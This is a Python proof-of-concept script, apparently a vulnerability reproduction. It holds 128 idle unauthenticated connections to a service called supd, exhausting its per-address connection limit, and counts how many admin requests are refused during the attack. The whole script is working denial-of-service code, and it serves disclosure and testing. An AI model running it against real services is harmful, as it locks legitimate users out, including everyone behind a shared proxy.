#!/usr/bin/env python3
"""Without any token: 128 idle connections from one address make supd refuse every other
connection from that address, authenticated or not. Behind a TCP/TLS-terminating proxy
(stunnel, haproxy mode tcp, an SSH or k8s port-forward) every client shares the proxy's
address, so one anonymous client locks all of them out, renewing every preauth-timeout (5 s).
Usage: SUPD_PORT=47811 SUPD_ADMIN=<admin token> run.py [SECONDS]"""
import sys, os, time, resource
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import supdc
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
DUR = float(sys.argv[1]) if len(sys.argv) > 1 else 12
path = supdc.BASE % "myapp" + "?count=true"
held = []
end = time.time() + DUR
ok = refused = 0
while time.time() < end:
    # keep 128 idle unauthenticated connections (closed by supd after 5 s: replace them)
    alive = []
    for s in held:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                s.close(); continue
        except BlockingIOError:
            pass
        except OSError:
            s.close(); continue
        alive.append(s)
    held = alive
    while len(held) < 128:
        try:
            held.append(supdc.conn(2))
        except OSError:
            break
    time.sleep(0.05)
    st = supdc.get(path, supdc.ADMIN)
    if st[0] == 200:
        ok += 1
    else:
        refused += 1
        if refused == 1:
            print("admin request refused:", st[0], st[2])
    time.sleep(0.2)
print("admin requests during the attack: %d answered, %d refused" % (ok, refused))
for s in held:
    s.close()
